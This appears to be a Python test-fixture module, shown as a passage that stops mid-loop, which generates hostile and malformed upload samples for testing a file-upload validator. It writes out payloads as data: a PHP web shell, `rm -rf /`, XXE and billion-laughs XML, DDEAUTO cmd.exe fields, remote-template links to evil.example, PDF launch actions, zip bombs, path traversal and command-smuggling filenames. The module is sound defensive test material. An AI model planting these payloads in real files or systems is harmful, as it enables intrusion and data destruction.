"""Hostile and broken uploads, and a few good ones beside them to show that not everything is refused.

Everything is made here, from small parts: no sample is a real threat. `samples()` gives files to send through the form,
`requests()` whole request bodies that no browser would send.
"""

from __future__ import annotations

import base64
import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache

MB = 1024**2


@dataclass(frozen=True)
class Sample:
    """A file as somebody might send it. `keep`: it is allowed, and the corpus has it for comparison or for its name."""

    what: str
    name: str
    content: bytes
    keep: bool = False
    codes: tuple[str, ...] = ()  # what the refusal may be, where that matters


# --- Good files ------------------------------------------------------------------------------------------

TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
BASE = "application/vnd.openxmlformats-officedocument."
MAINS = {
    "docx": ("word/document.xml", BASE + "wordprocessingml.document.main+xml"),
    "xlsx": ("xl/workbook.xml", BASE + "spreadsheetml.sheet.main+xml"),
    "pptx": ("ppt/presentation.xml", BASE + "presentationml.presentation.main+xml"),
}
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
DOCUMENT = f'<w:document xmlns:w="{WORD}"><w:body><w:p><w:r><w:t>Policy</w:t></w:r></w:p></w:body></w:document>'
DECLARED = '<?xml version="1.0" encoding="UTF-8"?>'


def zipped(parts: dict[str, bytes | str], *, method: int = zipfile.ZIP_DEFLATED, stored: tuple[str, ...] = ()) -> bytes:
    """A ZIP of some parts, in their order."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", method) as archive:
        for name, content in parts.items():
            info = zipfile.ZipInfo(name, (2003, 5, 12, 9, 0, 0))
            info.compress_type = zipfile.ZIP_STORED if name in stored else method
            archive.writestr(info, content)
    return file.getvalue()


def relation(kind: str, target: str, *, external: bool = False, base: str = OFFICE) -> str:
    """One relation of a part to another, or to somewhere else."""
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="r{abs(hash((kind, target))) % 9999}" Type="{base}/{kind}" Target="{target}"{mode}/>'


def relations(*rows: str) -> str:
    """The relations of a part."""
    return f'{DECLARED}<Relationships xmlns="{RELATIONS}">{"".join(rows)}</Relationships>'


def ooxml(
    extension: str = "docx", *, more: dict[str, bytes | str] | None = None, types: str = "", main_type: str = "",
    without: tuple[str, ...] = (), rels: str = "", **options: object,
) -> bytes:  # fmt: skip
    """A small Word, Excel or PowerPoint file, with changes."""
    place, content_type = MAINS[extension]
    bodies = {"docx": DOCUMENT, "xlsx": "<workbook/>", "pptx": "<presentation/>"}
    parts: dict[str, bytes | str] = {
        "[Content_Types].xml": f'{DECLARED}<Types xmlns="{TYPES}"><Default Extension="rels" ContentType="'
        f'application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType='
        f'"application/xml"/>{types}<Override PartName="/{place}" ContentType="{main_type or content_type}"/></Types>',
        "_rels/.rels": relations(relation("officeDocument", place), rels),
        place: DECLARED + bodies[extension],
    }
    parts |= more or {}
    return zipped({name: content for name, content in parts.items() if name not in without},
        **options)  # type: ignore[arg-type]


ODF = "application/vnd.oasis.opendocument."
ODF_KINDS = {"odt": "text", "ods": "spreadsheet", "odp": "presentation"}
_SPACE = "urn:oasis:names:tc:opendocument:xmlns:"
SPACES = 'xmlns:xlink="http://www.w3.org/1999/xlink"' + "".join(
    f' xmlns:{short}="{_SPACE}{long}:1.0"'
    for short, long in (("office",) * 2, ("text",) * 2, ("draw", "drawing"), ("script",) * 2, ("table",) * 2)
)


def odf(
    extension: str = "odt", *, body: str = "", more: dict[str, bytes | str] | None = None, manifest: str = "",
    kind: str | None = None, stored: bool = True, first: bool = True, head: str = "",
) -> bytes:  # fmt: skip
    """A small OpenDocument file, with changes."""
    mimetype = {"mimetype": kind if kind is not None else ODF + ODF_KINDS[extension]}
    space = 'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"'
    others: dict[str, bytes | str] = {
        "content.xml": f"{DECLARED}{head}<office:document-content {SPACES}><office:body>{body}</office:body>"
        "</office:document-content>",
        "META-INF/manifest.xml": f"{DECLARED}<manifest:manifest {space}>{manifest}</manifest:manifest>",
    } | (more or {})
    parts = {**mimetype, **others} if first else {**others, **mimetype}
    return zipped(parts, stored=("mimetype",) if stored else ())


def pdf(
    objects: dict[int, bytes] | None = None, *, catalog: bytes = b"", trailer: bytes = b"", page: bytes = b"",
    streams: tuple[tuple[int, bytes, bytes], ...] = (), header: bytes = b"%PDF-1.5\n",
) -> bytes:  # fmt: skip
    """A PDF of one page, with more objects, streams (number, dictionary, data), and entries of the first ones."""
    every = {
        1: b"<</Type/Catalog/Pages 2 0 R" + catalog + b">>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]" + page + b">>",
    } | (objects or {})
    for number, described, data in streams:
        every[number] = b"<<%s/Length %d>>\nstream\n%s\nendstream" % (described, len(data), data)
    out = bytearray(header)
    places = {}
    for number, body in sorted(every.items()):
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n"
    for number, place in places.items():
        out += b"%d 1\n%010d 00000 n \n" % (number, place)
    out += b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (max(every) + 1, trailer, start)
    return bytes(out)


def packed_objects(objects: dict[int, bytes]) -> tuple[bytes, int]:
    """The content of an object stream, and where the first object begins."""
    pairs, bodies = [], bytearray()
    for number, body in objects.items():
        pairs.append(b"%d %d" % (number, len(bodies)))
        bodies += body + b" "
    head = b" ".join(pairs) + b" "
    return head + bytes(bodies), len(head)


def chunk(name: bytes, body: bytes, *, crc: int | None = None) -> bytes:
    """A chunk of a PNG."""
    check = zlib.crc32(name + body) if crc is None else crc
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", check)


def png(
    width: int = 4, height: int = 4, *, data: bytes | None = None, extra: tuple[bytes, ...] = (), end: bool = True,
    tail: bytes = b"",
) -> bytes:  # fmt: skip
    """A grey PNG, with changes."""
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    packed = zlib.compress(b"\0" * ((width + 1) * height)) if data is None else data
    return (
        b"\x89PNG\r\n\x1a\n" + header + b"".join(extra) + chunk(b"IDAT", packed) + (chunk(b"IEND",
            b"") if end else b"")
        + tail
    )  # fmt: skip


# one grey pixel, as a library wrote it
JPEG = base64.b64decode(
    "/9j/4AAQSkZJRgABAQAAAQABAAD/2wBDAAgGBgcGBQgHBwcJCQgKDBQNDAsLDBkSEw8UHRofHh0aHBwgJC4nICIsIxwcKDcpLDAx"
    "NDQ0Hyc5PTgyPC4zNDL/wAALCAABAAEBAREA/8QAHwAAAQUBAQEBAQEAAAAAAAAAAAECAwQFBgcICQoL/8QAtRAAAgEDAwIEAwUF"
    "BAQAAAF9AQIDAAQRBRIhMUEGE1FhByJxFDKBkaEII0KxwRVS0fAkM2JyggkKFhcYGRolJicoKSo0NTY3ODk6Q0RFRkdISUpTVFVW"
    "V1hZWmNkZWZnaGlqc3R1dnd4eXqDhIWGh4iJipKTlJWWl5iZmqKjpKWmp6ipqrKztLW2t7i5usLDxMXGx8jJytLT1NXW19jZ2uHi"
    "4+Tl5ufo6erx8vP09fb3+Pn6/9oACAEBAAA/APn+v//Z"
)


def jpeg(*, extra: bytes = b"", tail: bytes = b"") -> bytes:
    """A JPEG of one pixel, with segments after its start and bytes after its end."""
    return JPEG[:2] + extra + JPEG[2:] + tail


def segment(marker: int, body: bytes) -> bytes:
    """A segment of a JPEG."""
    return struct.pack(">BBH", 0xFF, marker, len(body) + 2) + body


@cache
def good() -> dict[str, bytes]:
    """One small good file of every kind that is taken."""
    found = {one: ooxml(one) for one in MAINS} | {one: odf(one) for one in ODF_KINDS}
    return found | {
        "pdf": pdf(),
        "txt": "Minutes of the meeting – agreed.\n".encode(),
        "csv": b"team,trained\nnorth,12\nsouth,-\n",
        "png": png(),
        "jpg": jpeg(),
        "jpeg": jpeg(extra=segment(0xFE, b"made by a camera")),
    }


# --- What nobody should send -----------------------------------------------------------------------------

PROGRAM = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0" + b"\0" * 200
ELF = b"\x7fELF\x02\x01\x01\0" + b"\0" * 200
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY a "lol">' + "".join(
        f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(10)
    ) + "]>"
)  # fmt: skip
OUTSIDE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
# put together here, so that no scanner takes this file for a threat
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}" + b"$EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"

OTHER_ENDINGS = """
    7z ace ade apk app asp aspx avif bat bin bmp bz2 cab chm class cmd com cpl cr2 css dat db dll dmg doc
    docm dot dotm dotx dwg eml eps epub exe fla flv gadget gif gz hta heic htm html ico ics inf iso jar jnlp
    js jse json jsp key lnk lz m4a mdb mht mkv mov mp3 mp4 mpp msg msi msix mst numbers odb odg one ost otp
    ott pages php phtml pif pl pot potm pps ppsm ppsx ppt pptm ps ps1 psd pst pub py rar rb reg rpm rtf scf
    scr sh shtml sql svg svgz swf sys tar tgz tif tiff torrent url vb vbe vbs vhd vsd wasm webm webp wim wmf
    ws wsf xhtml xlam xls xlsb xlsm xlt xltm xltx xml xps xsl xz yaml zip zst
""".split()  # noqa: SIM905


def _endings() -> Iterator[Sample]:
    for ending in OTHER_ENDINGS:
        yield Sample(f"ending {ending}", f"report.{ending}", f"A file that ends in {ending}.".encode())
    for name in ("report", "report.", ".pdf", "...", "pdf", "report.pdf.", "report.pdf ", "report. pdf",
        "report.p df"):
        kept = name in ("report.pdf.", "report.pdf ", "report. pdf")  # cleaned, what is left is a PDF's name
        yield Sample(f"name {name!r}", name, pdf(catalog=b"/N%d 1" % len(name) + name.encode().hex().encode()), kept)


def _in_disguise() -> Iterator[Sample]:
    others = {
        "program": PROGRAM, "elf": ELF, "ole": OLE, "html": HTML, "svg": SVG, "shell": b"#!/bin/sh\nrm -rf /\n",
        "rar": b"Rar!\x1a\x07\x01\0" + b"\0" * 50, "7z": b"7z\xbc\xaf\x27\x1c" + b"\0" * 50,
        "gzip": b"\x1f\x8b\x08\0" + b"\0" * 50, "zip": zipped({"a.exe": PROGRAM}), "rtf": b"{\\rtf1 {\\object}}",
        "shortcut": b"L\0\0\0\x01\x14\x02\0" + b"\0" * 80, "class": b"\xca\xfe\xba\xbe" + b"\0" * 40,
        "wasm": b"\0asm\x01\0\0\0", "php": b"<?php system($_GET['c']); ?>",
    }  # fmt: skip
    for ending in good():
        for what, content in others.items():
            yield Sample(f"{what} as {ending}", f"{what}.{ending}", content)
    kinds = list(good())
    for place, ending in enumerate(kinds):
        other = kinds[(place + 3) % len(kinds)]
        if {ending, other} != {"jpg", "jpeg"}:
            yield Sample(f"{other} as {ending}", f"swapped.{ending}", good()[other])


def _broken() -> Iterator[Sample]:
    for ending, content in good().items():
        yield Sample(f"empty {ending}", f"empty.{ending}", b"", codes=("empty",))
        yield Sample(f"blank {ending}", f"blank.{ending}", b" \n\t\n" * 3)
        if ending in ("txt", "csv"):
            continue
        yield Sample(f"one byte {ending}", f"one.{ending}", content[:1])
        for part in (0.2, 0.5, 0.8):
            yield Sample(f"{part} of a {ending}", f"cut-{part}.{ending}", content[: int(len(content) * part)])
        yield Sample(f"without its end {ending}", f"end.{ending}", content[:-2])
        yield Sample(f"without its start {ending}", f"start.{ending}", content[3:])
        yield Sample(f"zeros {ending}", f"zeros.{ending}", bytes(5000))
        middle = len(content) // 2
        if ending not in ("pdf", "jpg", "jpeg"):
            middle = content.find(b".xml", 60) + 6 if content.startswith(b"PK") else middle  # in what is packed
            changed = content[:middle] + bytes([content[middle] ^ 0xFF]) + content[middle + 1 :]
            yield Sample(f"one byte changed {ending}", f"changed.{ending}", changed)


def _more_in_one() -> Iterator[Sample]:
    archive = zipped({"run.exe": PROGRAM})
    for ending, content in good().items():
        if ending in ("txt", "csv"):
            continue
        yield Sample(f"{ending} and ZIP", f"and-zip.{ending}", content + archive, codes=("hidden", "damaged"))
        yield Sample(f"{ending} and program", f"and-program.{ending}", content + PROGRAM)
        yield Sample(f"{ending} and page", f"and-page.{ending}", content + HTML)
        yield Sample(f"program and {ending}", f"before.{ending}", PROGRAM + content)
        if ending != "pdf":
            yield Sample(f"PDF and {ending}", f"pdf-before.{ending}", pdf() + content)
    yield Sample("PDF in a comment of a JPEG", "two.jpg", jpeg(extra=segment(0xFE, pdf())))
    yield Sample("PDF in a text chunk of a PNG", "two.png", png(extra=(chunk(b"tEXt", b"a\0" + pdf()),)))
    yield Sample("ZIP in a last segment of a JPEG", "gifar.jpg", jpeg(extra=segment(0xFE, archive)))


def _names() -> Iterator[Sample]:
    text = b"Named strangely: %d\n"
    names = [
        "../../etc/passwd.txt", "..\\..\\windows\\win.txt", "/etc/cron.d/job.txt", "C:\\temp\\a.txt",
        "\\\\server\\share\\a.txt",
        "a/b/../c.txt", "....//....//x.txt", "%2e%2e%2fx.txt", "\u202etxt.cod.txt", "safe\u202ename.txt",
        "zero\u200bwidth.txt",
        "tab\tname.txt", "line\nname.txt", "return\rname.txt", "quote\".txt", "semi;colon.txt",
        "<script>alert(1).txt",
        "<img src=x onerror=alert(1)>.txt", "{{7*7}}.txt", "${jndi:ldap:x}.txt", "'; DROP TABLE evidence;--.txt",
        "CON.txt",
        "nul.txt", "COM1.txt", "a" * 300 + ".txt", "é" * 250 + ".txt", "\U0001f600.txt", "نص.txt", "文件.txt", "..txt",
        "a..txt", " leading.txt", "-rf.txt", "~root.txt", "$(id).txt", "`id`.txt", "a\x7fb.txt", "a\x1b[31mred.txt",
        "\ufeffmark.txt", "e\u0301.txt", "x.TXT", "x.Txt", "name.tar.txt", "v1.2.final.txt", "a:b.txt", "a|b?c*d.txt",
    ]  # fmt: skip
    for number, name in enumerate(names):
        yield Sample(f"name {name[:40]!r}", name, text % number, keep=name != "..txt")
    for inner in ("exe", "js", "html", "scr", "bat", "ps1", "vbs", "php", "svg", "jar", "hta", "lnk"):
        kept = inner == "svg"
        yield Sample(f"double ending {inner}", f"report.{inner}.txt", text % 900 + inner.encode(), keep=kept)
    for ending in ("txt.exe", "pdf.js", "docx.scr", "png.html", "txt\u202eexe.cod", "txt%00.exe", "txt;.exe",
        "pdf:a.exe"):
        yield Sample(f"ending {ending!r}", f"report.{ending}", text % 990)


def _office() -> Iterator[Sample]:
    vba = {"word/vbaProject.bin": OLE}
    yield Sample("macros", "macro.docx", ooxml(more=vba), codes=("macros",))
    yield Sample("macros by another name", "macro2.docx", ooxml(more={"word/project.bin": OLE}))
    macro_type = "application/vnd.ms-word.document.macroEnabled.main+xml"
    yield Sample("macro type", "macro3.docx", ooxml(main_type=macro_type), codes=("macros",))
    for name, kind in (
        ("vba", "application/vnd.ms-office.vbaProject"), ("activex", "application/vnd.ms-office.activeX+xml"),
        ("ole", BASE + "oleObject"), ("sheet", "application/vnd.ms-excel.macrosheet+xml"), ("html", "text/html"),
        ("mail", "message/rfc822"), ("program", "application/x-msdownload"),
        ("taskpane", "application/vnd.ms-office.webextension+xml"), ("connections",
        BASE + "spreadsheetml.connections+xml"),
    ):  # fmt: skip
        types = f'<Override PartName="/word/x.xml" ContentType="{kind}"/>'
        yield Sample(f"part of type {name}", f"type-{name}.docx", ooxml(types=types, more={"word/x.xml": "<a/>"}))
    for ending in MAINS:
        other = MAINS[{"docx": "xlsx", "xlsx": "pptx", "pptx": "docx"}[ending]][1]
        swapped = ooxml(ending, main_type=other)
        yield Sample(f"{ending} of another type", f"other.{ending}", swapped, codes=("mismatch",))
        template = MAINS[ending][1].replace(".main", ".template.main").replace("document.template", "template")
        yield Sample(f"template as {ending}", f"template.{ending}", ooxml(ending, main_type=template))
        yield Sample(f"{ending} without types", f"types.{ending}", ooxml(ending, without=("[Content_Types].xml",)))
        yield Sample(f"{ending} without its main part", f"main.{ending}", ooxml(ending, without=(MAINS[ending][0],)))
        yield Sample(f"{ending} without relations", f"rels.{ending}", ooxml(ending, without=("_rels/.rels",)))
        yield Sample(f"{ending} with broken XML", f"xml.{ending}", ooxml(ending, more={MAINS[ending][0]: "<a><b></a>"}))
    for kind, target in (
        ("attachedTemplate", "http://evil.example/t.dotm"), ("image", "http://evil.example/pixel.png"),
        ("image", "file://evil.example/share/pixel.png"), ("oleObject", "mhtml:http://evil.example/x!x-usc:y"),
        ("externalLinkPath", "http://evil.example/book.xlsx"), ("frame", "http://evil.example/"),
        ("subDocument", "http://evil.example/a.docx"), ("aFChunk", "http://evil.example/a.html"),
        ("hyperlink", "javascript:alert(1)"), ("hyperlink", "file:///c:/windows/system32/calc.exe"),
        ("hyperlink", "\\\\evil.example\\share\\x.exe"), ("hyperlink", "ms-msdt:/id PCWDiagnostic"),
        ("hyperlink", "vbscript:msgbox(1)"), ("hyperlink", "data:text/html;base64,PHNjcmlwdD4="),
        ("hyperlink", "search-ms:query=x"), ("hyperlink", "%6Aavascript:alert(1)"), ("video",
        "http://evil.example/v.mp4"),
    ):  # fmt: skip
        part = {"word/_rels/document.xml.rels": relations(relation(kind, target, external=True))}
        yield Sample(f"{kind} to {target}", f"out-{kind}-{len(target)}.docx", ooxml(more=part))
    inside = {"word/_rels/document.xml.rels": relations(relation("image", "file:///etc/passwd"))}
    yield Sample("address without saying that it is outside", "sly.docx", ooxml(more=inside))
    yield Sample("alternative chunk", "chunk.docx", ooxml(more={
        "word/_rels/document.xml.rels": relations(relation("aFChunk", "x.html")), "word/x.html": HTML}))  # fmt: skip
    for field in ("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe", "DDE excel x", "INCLUDETEXT http://e/x",
        "INCLUDEPICTURE x"):
        body = DOCUMENT.replace("<w:t>Policy</w:t>", f"<w:instrText>{field}</w:instrText>")
        yield Sample(f"field {field[:12]}", f"field-{len(field)}.docx", ooxml(more={"word/document.xml": body}))
    split = DOCUMENT.replace("<w:t>Policy</w:t>", "<w:instrText>DDE</w:instrText><w:instrText>AUTO x y</w:instrText>")
    yield Sample("field in two pieces", "field-split.docx", ooxml(more={"word/document.xml": split}))
    coded = DOCUMENT.replace("<w:t>Policy</w:t>", "<w:instrText>&#68;DEAUTO x y</w:instrText>")
    yield Sample("field in disguise", "field-coded.docx", ooxml(more={"word/document.xml": coded}))
    simple = DOCUMENT.replace("<w:t>Policy</w:t>", '<w:fldSimple w:instr="DDEAUTO x y"/>')
    yield Sample("simple field", "field-simple.docx", ooxml(more={"word/document.xml": simple}))
    for name, content in (
        ("word/embeddings/oleObject1.bin", OLE), ("word/embeddings/Microsoft_Word.doc", OLE),
        ("word/media/image1.png", PROGRAM),
        ("word/media/image1.png", OLE), ("word/media/image1.emf", b"#!/bin/sh"), ("word/media/a.exe", PROGRAM),
        ("word/media/image1.svg", SVG), ("word/media/a.js", b"alert(1)"), ("word/media/a.html", HTML), ("a.pdf",
        pdf()),
        ("word/media/a.zip", zipped({"a": b"b"})), ("word/a.bin", b"anything"), ("word/media/a.swf", b"FWS"),
        ("word/embeddings/a.xlsx", OLE), ("word/activeX/activeX1.xml", "<a/>"),
        ("xl/externalLinks/externalLink1.xml", "<a/>"),
        ("xl/macrosheets/sheet1.xml", "<a/>"), ("word/media/huge.png", png(60000, 60000, data=b"")),
        ("word/noending", b"x"),
        ("customXml/item1.xml", "<DataMashup xmlns='http://schemas.microsoft.com/DataMashup'>x</DataMashup>"),
        ("word/media/image1.png", zipped({"a": b"b"})), ("xl/connections.xml", "<connections/>"),
        ("word/vml1.vml", "<script>alert(1)</script>"), ("word/media/v.mp4", b"\0\0\0\x20ftypmp42"),
    ):  # fmt: skip
        label = f"{name.rpartition('/')[2]} {content[:4]!r}"
        yield Sample(f"part {label}", f"part-{zlib.crc32(label.encode())}.docx", ooxml(more={name: content}))
    for head, words in ((LAUGHS, "billion laughs"), (OUTSIDE, "entity from outside"), ("<!DOCTYPE a>",
        "document type")):
        for place in ("word/document.xml", "[Content_Types].xml", "_rels/.rels", "word/styles.xml",
            "docProps/core.xml"):
            yield Sample(
                f"{words} in {place}", f"xml-{len(head)}-{len(place)}.docx",
                ooxml(more={place: DECLARED + head + "<a>&j;</a>"}),
            )  # fmt: skip
    for encoding in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-7"):
        body = f'<?xml version="1.0" encoding="{encoding}"?>{DOCUMENT}'.encode(encoding)
        yield Sample(f"XML in {encoding}", f"{encoding}.docx", ooxml(more={"word/document.xml": body}))
    for ending in ("xlsx", "docx"):
        deep = ooxml(ending)
        for _level in range(4):
            deep = ooxml("docx", more={f"word/embeddings/inner.{ending}": deep})
            ending = "docx"
        yield Sample(f"nested {len(deep)}", f"nested-{len(deep)}.docx", deep)
    bad_inside = ooxml("docx", more={"word/embeddings/a.xlsx": ooxml("xlsx", more={"xl/vbaProject.bin": OLE})})
    yield Sample("macros in the sheet of a chart", "inner.docx", bad_inside)


def _archives() -> Iterator[Sample]:
    for name in (
        "../evil.xml", "/etc/evil.xml", "word/../../evil.xml", "word\\evil.xml", "C:evil.xml", "word//evil.xml",
        "./evil.xml",
        "a" * 300 + ".xml", "word/e\x01vil.xml", "word/e*vil.xml", "..", "word/..",
    ):  # fmt: skip
        named = ooxml(more={name: "<a/>"})
        yield Sample(f"part named {name[:20]!r}", f"named-{zlib.crc32(name.encode())}.docx", named)
    plain = ooxml()
    yield Sample("parts that differ in case only", "case.docx", ooxml(more={"WORD/document.xml": "<a/>"}))
    double = io.BytesIO(plain)
    import warnings

    with warnings.catch_warnings(), zipfile.ZipFile(double, "a") as archive:
        warnings.simplefilter("ignore")
        archive.writestr("word/document.xml", "<again/>")
    yield Sample("two parts of one name", "double.docx", double.getvalue())
    name_with_nul = plain.replace(b"word/document.xml", b"word/docume\0t.xml")
    yield Sample("NUL in a part's name", "nul.docx", name_with_nul)
    encrypted = bytearray(plain)
    for at in _places(plain, b"PK\x03\x04"):
        encrypted[at + 6] |= 1
    for at in _places(plain, b"PK\x01\x02"):
        encrypted[at + 8] |= 1
    yield Sample("encrypted", "secret.docx", bytes(encrypted), codes=("encrypted",))
    one_sided = bytearray(plain)
    for at in _places(plain, b"PK\x03\x04"):
        one_sided[at + 6] |= 1
    yield Sample("encrypted in one header only", "secret2.docx", bytes(one_sided))
    for method, words in ((zipfile.ZIP_BZIP2, "bzip2"), (zipfile.ZIP_LZMA, "lzma")):
        yield Sample(f"packed with {words}", f"{words}.docx", ooxml(method=method))
    commented = bytearray(plain)
    commented[-2:] = b"\x04\0"
    yield Sample("comment", "comment.docx", bytes(commented) + b"abcd")
    yield Sample("junk before", "junk.docx", b"junk" + plain)
    yield Sample("junk in the middle", "gap.docx", _with_gap(plain))
    link = io.BytesIO(plain)
    with zipfile.ZipFile(link, "a") as archive:
        info = zipfile.ZipInfo("word/link.xml")
        info.external_attr = 0o120777 << 16
        archive.writestr(info, "/etc/passwd")
    yield Sample("symbolic link", "link.docx", link.getvalue())
    yield Sample("too many parts", "many.docx", ooxml(more={f"word/p{n}.xml": "<a/>" for n in range(4100)}),
        codes=("bomb",))
    lying = bytearray(plain)
    for at in _places(plain, b"PK\x01\x02"):
        struct.pack_into("<I", lying, at + 24, 10)
    yield Sample("sizes that are not true", "lying.docx", bytes(lying))
    bomb = b"<a>" + b" " * (90 * MB) + b"</a>"
    yield Sample("bomb of one part", "bomb.docx", ooxml(more={"word/a.xml": bomb}), codes=("bomb",))
    third = b"<a>" + b" " * (70 * MB) + b"</a>"
    sheets: dict[str, bytes | str] = {f"xl/worksheets/s{n}.xml": third for n in range(3)}
    yield Sample("bomb of three parts", "bomb.xlsx", ooxml("xlsx", more=sheets), codes=("bomb",))
    yield Sample("overlapping parts", "overlap.docx", _overlapping())
    yield Sample("ZIP64", "zip64.docx", plain[:-22] + plain[-22:-12] + b"\xff" * 10 + b"\0\0")
    yield Sample("bomb as OpenDocument", "bomb.odt", odf(more={"big.xml": bomb}), codes=("bomb",))
    elements = b"<a>" + b"<b/>" * (11 * MB) + b"</a>"
    yield Sample("more elements than anybody reads", "slow.docx", ooxml(more={"word/document.xml": elements}))


def _places(data: bytes, what: bytes) -> list[int]:
    found, at = [], data.find(what)
    while at >= 0:
        found.append(at)
        at = data.find(what, at + 1)
    return found


def _with_gap(data: bytes) -> bytes:
    """The same archive with a program between its parts and its directory."""
    end = data.rfind(b"PK\x05\x06")
    directory = struct.unpack_from("<I", data, end + 16)[0]
    record = bytearray(data[end:])
    struct.pack_into("<I", record, 16, directory + len(PROGRAM))
    return data[:directory] + PROGRAM + data[directory:end] + bytes(record)


def _overlapping() -> bytes:
    """An archive whose directory lists one part many times over, under many names."""
    data = ooxml(more={"word/a.xml": b"<a>" + b" " * (5 * MB) + b"</a>"})
    end = data.rfind(b"PK\x05\x06")
    directory, place = struct.unpack_from("<I", data, end + 16)[0], data.rfind(b"PK\x01\x02")
    entry = data[place:end]
    entries = b"".join(entry.replace(b"word/a.xml", b"word/%c.xml" % letter) for letter in range(98, 123))
    record = bytearray(data[end:])
    number = struct.unpack_from("<H", record, 8)[0] + 25
    struct.pack_into("<HHI", record, 8, number, number, end - directory + len(entries))
    return data[:end] + entries + bytes(record)


def _opendocument() -> Iterator[Sample]:
    def href(element: str, target: str) -> str:
        return f'<{element} xlink:href="{target}"/>'

    for name in ("Basic/Standard/Module1.xml", "Scripts/python/a.py", "Dialogs/Standard/d.xml", "basic/x.xml"):
        yield Sample(f"ODF {name}", f"macro-{len(name)}.odt", odf(more={name: "<a/>"}), codes=("macros",))
    for what, body in (
        ("listener", '<script:event-listener script:event-name="dom:load" xlink:href="x"/>'), ("script",
        "<office:script/>"),
        ("action", href("draw:a", "vnd.sun.star.script:Standard.M.x?language=Basic")), ("macro", href("draw:a",
        "macro:///S.M")),
        ("picture", href("draw:image", "http://evil.example/p.png")), ("picture on a share", href("draw:image",
        "//evil/p")),
        ("picture beside", href("draw:image", "../p.png")), ("frame", href("draw:floating-frame",
        "http://evil.example")),
        ("plugin", href("draw:plugin", "http://evil.example")), ("applet", "<draw:applet/>"), ("dde",
        "<office:dde-source/>"),
        ("section", href("text:section-source", "file:///etc/passwd")), ("link", href("text:a",
        "javascript:alert(1)")),
        ("file link", href("text:a", "file:///c:/x.exe")), ("object", href("draw:object",
        "http://evil.example/x.odt")),
        ("sheet", href("table:table-source", "http://evil.example/x.ods")), ("expand", href("draw:image",
        "vnd.sun.star.expand:x")),
    ):  # fmt: skip
        yield Sample(f"ODF {what}", f"{what.replace(' ', '-')}.odt", odf(body=body))
    yield Sample("ODF encrypted", "secret.odt", odf(manifest="<manifest:encryption-data/>"), codes=("encrypted",))
    for ending in ODF_KINDS:
        other = ODF + ODF_KINDS[{"odt": "ods", "ods": "odp", "odp": "odt"}[ending]]
        yield Sample(f"{ending} of another kind", f"kind.{ending}", odf(ending, kind=other), codes=("mismatch",))
        yield Sample(f"{ending} without a kind", f"nokind.{ending}", odf(ending, kind=""))
        yield Sample(f"{ending} with a packed kind", f"packed.{ending}", odf(ending, stored=False))
        yield Sample(f"{ending} with its kind last", f"last.{ending}", odf(ending, first=False))
        yield Sample(f"{ending} with laughs", f"laughs.{ending}", odf(ending, head=LAUGHS), codes=("xml_type",))
    for name, content in (
        ("Object 1", OLE), ("Pictures/a.png", PROGRAM), ("Pictures/a.svg", SVG), ("a.exe", PROGRAM),
        ("Pictures/a.html", HTML),
        ("ObjectReplacements/Object 1", PROGRAM), ("Pictures/huge.png", png(50000, 50000, data=b"")), ("a.jar",
        b"PK"),
    ):  # fmt: skip
        yield Sample(f"ODF part {name}", f"part-{len(name)}-{content[:2].hex()}.odt", odf(more={name: content}))


def _pdfs() -> Iterator[Sample]:
    script = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
    for what, catalog in (
        ("script on opening", b"/OpenAction" + script), ("script by name",
        b"/Names<</JavaScript<</Names[(a)" + script + b"]>>>>"),
        ("script with room", b"/OpenAction<</S % note\n /JavaScript /JS (x)>>"), ("attached",
        b"/Names<</EmbeddedFiles<<>>>>"),
        ("script in disguise", b"/OpenAction<</S/Java#53cript/JS(x)>>"), ("program",
        b"/OpenAction<</S/Launch/F(cmd.exe)>>"),
        ("program in disguise", b"/OpenAction<</S/#4caunch/F(cmd.exe)>>"), ("address",
        b"/OpenAction<</S/URI/URI(http://e/)>>"),
        ("form data", b"/OpenAction<</S/SubmitForm/F(http://e/)>>"), ("import", b"/OpenAction<</S/ImportData/F(x)>>"),
        ("form of scripts", b"/AcroForm<</XFA[(a)4 0 R]>>"), ("other file", b"/OpenAction<</S/GoToE/T<<>>>>"),
        ("remote file", b"/OpenAction<</S/GoToR/F(//evil/x.pdf)>>"), ("portfolio", b"/Collection<</View/D>>"),
        ("file by name", b"/AF[<</Type/Filespec/EF<</F 4 0 R>>>>]"), ("screen", b"/OpenAction<</S/Rendition/JS(x)>>"),
        ("address of an action later", b"/AA<</WC<</S/URI/URI(http://e/)>>>>"),
        ("script as a link", b"/X<</S/URI/URI(javascript:alert\\(1\\))>>"), ("file as a link",
        b"/X<</S/URI/URI( file:///c:/x)>>"),
    ):  # fmt: skip
